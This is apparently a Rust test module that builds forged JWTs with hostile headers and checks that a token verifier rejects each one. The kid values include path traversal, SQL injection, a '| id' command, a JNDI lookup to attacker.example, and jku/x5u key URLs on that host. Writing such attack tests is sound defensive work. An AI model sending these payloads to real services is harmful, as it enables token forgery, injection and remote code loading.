//! Headers that would have us take another key, or another meaning.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::json;
use smac_local::keys::Key;
use smac_local::token::{Token, sign_raw};

use super::{Attack, message, with_token};

pub fn all() -> Vec<Attack> {
    let forged = || Token::id().forged();
    let named = || forged().header("kid", Key::Forger.kid());
    let certificate = STANDARD.encode(b"not much of a certificate");
    let mut attacks = Vec::new();
    for (header, value) in [
        ("jwk", Key::Forger.jwk()),
        ("jwk", json!({ "kty": "oct", "k": "AA" })),
        ("jku", json!("https://attacker.example/jwks.json")),
        ("jku", json!("http://127.0.0.1:1/jwks.json")),
        ("x5u", json!("https://attacker.example/certificate.pem")),
        ("x5c", json!([certificate])),
        ("x5t", json!("AAAA")),
        ("x5t#S256", json!("AAAA")),
        ("iss", json!("https://attacker.example")),
        ("typ", json!("none")),
        ("cty", json!("JWT")),
        ("zip", json!("DEF")),
        ("b64", json!(false)),
        ("enc", json!("A256GCM")),
    ] {
        let name = format!("header {header}");
        attacks.push(with_token(&name, &forged().header(header, value.clone()).sign(), "signature_invalid"));
        attacks.push(with_token(&name, &named().header(header, value).sign(), "key_unknown"));
    }
    for crit in [json!([]), json!(["exp"]), json!(["b64"]), json!("b64"), json!(null), json!(7)] {
        // `null` would take the header away, so it is written by hand.
        let header = json!({ "alg": "RS256", "kid": Key::Primary.kid(), "crit": crit, "b64": false });
        let token = sign_raw(Key::Primary, header.to_string().as_bytes(), b"{}");
        attacks.push(with_token(format!("crit {crit}"), &token, "token_malformed"));
    }
    for kid in [
        "../../../../dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "' OR '1'='1",
        "x' UNION SELECT 'key';--",
        "| id",
        "${jndi:ldap://attacker.example/a}",
        "https://attacker.example/key",
        "\u{0}",
        "\u{202e}",
        "*",
        " ",
        "p1/DevPrimaryKey+0000000000000000000000000001",
        "P1/DEVPRIMARYKEY+0000000000000000000000000001=",
        "p1/DevPrimaryKey 0000000000000000000000000001=",
        "p1%2FDevPrimaryKey%2B0000000000000000000000000001%3D",
    ] {
        attacks.push(with_token(format!("kid {kid:?}"), &Token::id().header("kid", kid).sign(), "key_unknown"));
    }
    attacks.push(with_token("a long kid", &Token::id().header("kid", "k".repeat(100_000)).sign(), "key_unknown"));
    for kid in [json!(7), json!([Key::Primary.kid()]), json!({}), json!(true), json!("")] {
        attacks.push(with_token(format!("kid {kid}"), &Token::id().header("kid", kid).sign(), "token_malformed"));
    }
    for header in [
        format!(r#"{{"alg":"none","alg":"RS256","kid":"{}"}}"#, Key::Primary.kid()),
        format!(r#"{{"alg":"RS256","kid":"x","kid":"{}"}}"#, Key::Primary.kid()),
        format!(r#"{{"alg":"RS256","\u0061lg":"none","kid":"{}"}}"#, Key::Primary.kid()),
        format!(r#"[{{"alg":"RS256","kid":"{}"}}]"#, Key::Primary.kid()),
        format!(r#"{{"alg":"RS256","kid":"{}"}} "{{}}""#, Key::Primary.kid()),
        format!("\u{feff}{{\"alg\":\"RS256\",\"kid\":\"{}\"}}", Key::Primary.kid()),
    ] {
        let claims = message(&Token::id());
        let claims = URL_SAFE_NO_PAD.decode(claims.split_once('.').unwrap().1).unwrap();
        let token = sign_raw(Key::Primary, header.as_bytes(), &claims);
        attacks.push(with_token(format!("header {header}"), &token, "token_malformed"));
    }
    attacks
}
